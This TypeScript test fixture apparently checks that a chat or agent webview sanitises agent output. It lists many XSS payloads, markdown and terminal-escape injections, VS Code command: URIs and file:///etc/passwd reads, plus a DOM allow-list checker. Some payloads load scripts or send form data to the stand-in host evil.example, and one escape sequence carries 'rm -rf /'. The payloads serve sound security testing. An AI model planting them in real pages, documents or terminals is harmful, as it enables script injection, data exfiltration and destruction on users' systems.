/** Every payload that could run says so here: `window.__pwned` must stay unset. */
export const MARKER = '__pwned';
/** Where payloads try to load from or to go to. Reserved: it leads nowhere, even where nothing blocks it. */
export const OUTSIDE = 'https://evil.example';

const RUN = `window.${MARKER}=1`;
const BOX = `data:text/html,<script>${RUN}</script>`;
const BOX64 = `data:text/html;base64,${btoa(`<script>parent.${MARKER}=1</script>`)}`;
const SVG64 = `data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`)}`;
const ESC = '\u001b';

const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${OUTSIDE}/x.js></SCRIPT>`,
  `<script type="module">import "${OUTSIDE}/x.js"</script>`,
  `<script type="importmap">{"imports":{"preact":"${OUTSIDE}/x.js"}}</script>`,
  `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${OUTSIDE}/s"]}]}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\u0000>${RUN}</script>`,
  `<script/x>${RUN}</script >`,
  `<<script>${RUN}//<</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `</script><script>${RUN}</script>`,
  `</textarea></title><img src=x onerror=${RUN}>`,
];

const handlers = [
  `<img src=x onerror=${RUN}>`,
  `<img src=x:x onerror="${RUN}" //`,
  `<image src=x onerror=${RUN}>`,
  `<img/src="x"/onerror=${RUN}>`,
  `<img src=x\u000conerror=${RUN}>`,
  `<img src=x OnErRoR=${RUN}>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}><option>x</select>`,
  `<textarea autofocus onfocus=${RUN}>x</textarea>`,
  `<div tabindex=0 autofocus onfocus=${RUN}>x</div>`,
  `<p style="animation:x 1s" onanimationstart=${RUN}>x</p>`,
  `<video src=x onerror=${RUN}></video>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<p onpointerenter=${RUN} onclick=${RUN}>x</p>`,
  `<button popovertarget=p>x</button><div popover id=p onbeforetoggle=${RUN}>y</div>`,
  `<div contenteditable onbeforeinput=${RUN}>x</div>`,
  `<p title='x' onclick='${RUN}'>y</p>`,
  `" autofocus onfocus="${RUN}" x="`,
  `' onmouseover='${RUN}`,
  `"><img src=x onerror=${RUN}>`,
];

const addresses = [
  `<a href="javascript:${RUN}">x</a>`,
  `<a href=" javascript:${RUN}">x</a>`,
  `<a href="\u0001javascript:${RUN}">x</a>`,
  `<a href="java&#x0A;script:${RUN}">x</a>`,
  `<a href="java&Tab;script&colon;${RUN}">x</a>`,
  `<a href="&#106;&#97;vascript:${RUN}">x</a>`,
  `<a href="vbscript:${RUN}">x</a>`,
  `<a href="${BOX64}">x</a>`,
  `<a href="blob:${OUTSIDE}/1">x</a>`,
  `<a href="//evil.example/x" target=_top>x</a>`,
  `<a target="_blank" ping="${OUTSIDE}/ping" href="https://ok.example/" onclick=${RUN}>x</a>`,
  `<a href="https://ok.example\\@evil.example/">x</a>`,
  `<a download href="${OUTSIDE}/x.exe">x</a>`,
  `<area href="javascript:${RUN}">`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `\u2028javascript:${RUN}`,
  `vbscript:${RUN}`,
  BOX,
  BOX64,
  SVG64,
  'command:workbench.action.closeWindow',
  'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%5Cn%22%7D',
  'vscode://file/etc/passwd',
  'vscode-insiders://evil.evil/run?x=1',
  'vscode-webview://x/index.html',
  'vscode-resource://file///etc/passwd',
  'file:///etc/passwd',
  'file://evil.example/share/x',
  '\\\\evil.example\\share\\x',
  '../../../../../../etc/passwd',
  'file:///%E0%A4%A',
  'https://user:password@evil.example:8443/x',
];

const markdown = [
  `[x](javascript:${RUN})`,
  `[x](<javascript:${RUN}>)`,
  `[x](JaVaScRiPt:${RUN} "title")`,
  `[x](&#x6A;avascript:${RUN})`,
  `[x](java%0ascript:${RUN})`,
  `[x](data:text/html;base64,PHNjcmlwdD4=)`,
  '[x](command:workbench.action.quit)',
  '[x](command:workbench.action.quit?%5B%5D "a title")',
  '[x](vscode://file/etc/passwd)',
  '[x](file:///etc/passwd#L1)',
  `[x][r]\n\n[r]: javascript:${RUN}`,
  `[__proto__]\n\n[__proto__]: javascript:${RUN}`,
  `[constructor][constructor]\n\n[constructor]: ${OUTSIDE} "t"`,
  `<javascript:${RUN}>`,
  `<command:workbench.action.quit>`,
  `![x](${OUTSIDE}/pixel.png)`,
  `![x](javascript:${RUN})`,
  `![x](${SVG64})`,
  `![x"onerror="${RUN}](x)`,
  `[x](https://ok.example '"onmouseover="${RUN}')`,
  `[![x](${OUTSIDE}/a.png)](javascript:${RUN})`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`"><img/src=x/onerror=${RUN}>\ncode\n\`\`\``,
  '```__proto__\ncode\n```',
  '```constructor\ncode\n```',
  `\`<img src=x onerror=${RUN}>\``,
  `| <img src=x onerror=${RUN}> |\n|---|\n| <svg onload=${RUN}> |`,
  `- [x] <img src=x onerror=${RUN}>`,
  `# <a id="root" name="body">x</a>`,
  `[a#${'1'.repeat(60)}x](b#${'1'.repeat(60)}x)`,
  `[x](${':1'.repeat(20_000)}x)`,
];

const embedded = [
  `<iframe src="${OUTSIDE}"></iframe>`,
  `<iframe srcdoc="<script>parent.${MARKER}=1</script>"></iframe>`,
  `<iframe src="javascript:parent.${MARKER}=1"></iframe>`,
  `<frameset onload=${RUN}><frame src="${OUTSIDE}"></frameset>`,
  `<portal src="${OUTSIDE}"></portal><fencedframe></fencedframe>`,
  `<object data="${BOX64}"></object>`,
  `<object data="${OUTSIDE}/x.swf"><param name=movie value="${OUTSIDE}"></object>`,
  `<embed src="${OUTSIDE}/x.svg">`,
  `<applet code=x archive="${OUTSIDE}/x.jar"></applet>`,
  `<form action="${OUTSIDE}"><input name=q value=1><button>go</button></form>`,
  `<form id=x></form><button form=x formaction="javascript:${RUN}">go</button>`,
  `<isindex action="javascript:${RUN}" type=image>`,
  `<base href="${OUTSIDE}/">`,
  `<meta http-equiv="refresh" content="0;url=${OUTSIDE}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel="stylesheet" href="${OUTSIDE}/x.css">`,
  `<link rel="preload" as="image" imagesrcset="${OUTSIDE}/p.png 1x">`,
  `<link rel="dns-prefetch" href="//evil.example"><link rel="prefetch" href="${OUTSIDE}/p">`,
  `<style>@import "${OUTSIDE}/x.css";*{display:none}</style>`,
  `<style>@font-face{font-family:x;src:url(${OUTSIDE}/f)}body{font-family:x}</style>`,
  `<p style="position:fixed;inset:0;background:url(${OUTSIDE}/bg.png)">x</p>`,
  `<table background="${OUTSIDE}/bg.png"><tr><td background="${OUTSIDE}/td.png">x</table>`,
  `<img src="${OUTSIDE}/pixel.png">`,
  `<img srcset="${OUTSIDE}/a.png 1x, ${OUTSIDE}/b.png 2x">`,
  `<img src="data:image/png;base64,AAAA" srcset="${OUTSIDE}/a.png" lowsrc="${OUTSIDE}/b.png">`,
  `<picture><source srcset="${OUTSIDE}/a.png"><img></picture>`,
  `<input type=image src="${OUTSIDE}/i.png">`,
  `<video poster="${OUTSIDE}/p.png" src="${OUTSIDE}/v"><track src="${OUTSIDE}/t"></video>`,
  `<audio autoplay src="${OUTSIDE}/a"></audio>`,
  `<q cite="${OUTSIDE}/q">x</q><blockquote cite="javascript:${RUN}">y</blockquote>`,
  `<dialog open><form method=dialog><button>x</button></form></dialog>`,
];

const foreign = [
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>x</text></a></svg>`,
  `<svg><use href="${SVG64}#x"/></svg>`,
  `<svg><image href="${OUTSIDE}/p.png"/></svg>`,
  `<svg><foreignObject><iframe src="${OUTSIDE}"></iframe></foreignObject></svg>`,
  `<svg><set attributeName=onmouseover to=${RUN}></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<svg><style>&lt;/style&gt;&lt;img src=x onerror=${RUN}&gt;</style></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  `<xss:x xmlns:xss="urn:schemas-microsoft-com:time" onbegin=${RUN}>x</xss:x>`,
];

const mutations = [
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><?pi <img src=x onerror=${RUN}> ?>`,
  `<!DOCTYPE x [<!ENTITY e "<script>${RUN}</script>">]>&e;`,
  `<p id="</p><img src=x onerror=${RUN}>">`,
  `<a title="a\`b><img src=x onerror=${RUN}>\`">x</a>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<xmp><img src=x onerror=${RUN}></xmp><plaintext><img src=x onerror=${RUN}>`,
  `<table><td><a/><svg><desc><td></desc><img src=x onerror=${RUN}></svg>`,
  `<img src='${OUTSIDE}/dangling?`,
  `<a href="${OUTSIDE}/dangling?x=`,
  `<textarea>`,
  `<title><a title="</title><img src=x onerror=${RUN}>">`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `＜script＞${RUN}＜/script＞`,
  `<ſcript>${RUN}</ſcript>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<p constructor=x __proto__=y toString=z valueOf=w>x</p>`,
  `<div id="root" name="body" class="codicon permission button">x</div>`,
  `<p data-testid="composer" data-path="/etc/passwd" data-copy-code role="button" aria-label="Allow">x</p>`,
  `<a id=document name=cookie><img name=body id=getElementById>`,
];

const names = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
  'root',
  'completions',
  'innerHTML',
  'dangerouslySetInnerHTML',
  '$(bell-dot) $(sync~spin)',
  '[click](command:workbench.action.closeWindow)',
  `[click](${OUTSIDE} "title")`,
];

const controls = [
  `${ESC}]8;;javascript:${RUN}${ESC}\\click${ESC}]8;;${ESC}\\`,
  `${ESC}]8;;command:workbench.action.quit\u0007click${ESC}]8;;\u0007`,
  `${ESC}]0;<img src=x onerror=${RUN}>\u0007`,
  `${ESC}]52;c;ZXZpbA==\u0007`,
  `${ESC}]633;E;rm -rf /\u0007${ESC}]1337;File=inline=1:AAAA\u0007`,
  `${ESC}[31m<img src=x onerror=${RUN}>${ESC}[0m`,
  `${ESC}[38;2;1;2;3;x"onmouseover="${RUN}m red`,
  `${ESC}P+q544e${ESC}\\${ESC}_G<script>${RUN}</script>${ESC}\\`,
  `\u009d8;;javascript:${RUN}\u009cclick`,
  `${ESC}[2J${ESC}[H${ESC}[?1049h`,
  `safe.txt\r${ESC}[K<b onclick=${RUN}>x</b>`,
  `\u202egnp.exe\u202c \u2066<img src=x onerror=${RUN}>\u2069`,
  `\u0000<img src=x onerror=${RUN}>\u0000`,
  `\u200b<\u200bscript>${RUN}</script>\ufeff`,
  `\ud800<img src=x onerror=${RUN}>\udfff`,
  `${'<b>'.repeat(600)}<img src=x onerror=${RUN}>`,
  `${'A'.repeat(20_000)}<script>${RUN}</script>`,
  `${'> '.repeat(60)}<img src=x onerror=${RUN}>`,
];

/** Hostile in one way or another wherever a text of an agent may come to stand. All distinct. */
export const hostilePayloads: readonly string[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...markdown,
  ...embedded,
  ...foreign,
  ...mutations,
  ...names,
  ...controls,
];

/**
 * What in the page an agent should not have been able to put there, in words. It also runs inside a browser: no named
 * functions and nothing from outside, because tsx would have it call a helper that the page does not have.
 */
export function hostileFindings(root: Element): string[] {
  const tags =
    'A AUDIO B BDI BLOCKQUOTE BR BUTTON CAPTION CIRCLE CODE DD DEL DETAILS DIV DL DT EM FORM H1 H2 H3 H4 H5 H6 HR I IMG INPUT INS KBD LABEL LI MARK OL OPTION P PRE S SAMP SELECT SMALL SPAN STRONG SUB SUMMARY SUP SVG TABLE TBODY TD TEXTAREA TFOOT TH THEAD TR U UL VAR'.split(
      ' ',
    );
  const attributes =
    'align alt checked class colspan controls cx cy dir disabled for height hidden href id inputmode name novalidate open placeholder r role rows rowspan selected src start stroke-dasharray style tabindex title transform type value viewbox width'.split(
      ' ',
    );
  const ours = [
    ['svg, circle', '.usage *'],
    ['form', 'form.form[novalidate]'],
    ['audio', '.chat *:not(.markdown *)'],
    ['[name]', '.form input[type="radio"]'],
    ['input, textarea, select, option, label', '.chat *:not(.markdown *)'],
    ['button', '.chat *:not(.markdown *), .code-bar *'],
    ['[role]:not([role="link"])', ':not(.markdown *), .code-block *, .md-table, .md-task'],
    ['[data-path]', 'a[role="link"]:not([href])'],
    ['[data-copy-code], [data-code-action]', '.code-bar *'],
    ['.permission, .entry, .button, .composer, .popup', ':not(.markdown *)'],
  ] as const;
  const findings: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    if (!tags.includes(element.tagName.toUpperCase())) {
      findings.push(`element ${element.outerHTML.slice(0, 300)}`);
    }
    for (const [all, allowed] of ours) {
      if (element.matches(all) && !element.matches(allowed)) {
        findings.push(`not ours: ${element.outerHTML.slice(0, 300)}`);
      }
    }
    for (const { name, value } of element.attributes) {
      const isKnown = attributes.includes(name.toLowerCase()) || /^(?:aria|data)-[a-z-]+$/.test(name);
      const isSafe =
        (name !== 'href' || /^(?:https?|mailto):/i.test(value)) &&
        (name !== 'src' ||
          (element.tagName === 'IMG' && /^data:image\/(?:png|jpeg|gif|webp);base64,/i.test(value)) ||
          (element.tagName === 'AUDIO' && /^data:audio\/[\w.+-]+;base64,/i.test(value))) &&
        (name !== 'style' || /^(?:(?:height|--room|--shift): [\d.a-z-]+;? ?)+$/.test(value)) &&
        // The page's own, and those made of numbers that the host gave.
        (!['id', 'name'].includes(name) ||
          /^(?:completions(?:-\d+)?|recent-sessions|picker-[\w-]*|[a-z0-9-]+-\d+(?:-note|-label|-choice-\d+)?)$/.test(
            value,
          ));
      if (!isKnown || !isSafe) {
        findings.push(`attribute ${name}=${value.slice(0, 100)} of ${element.outerHTML.slice(0, 300)}`);
      }
    }
  }
  return findings;
}
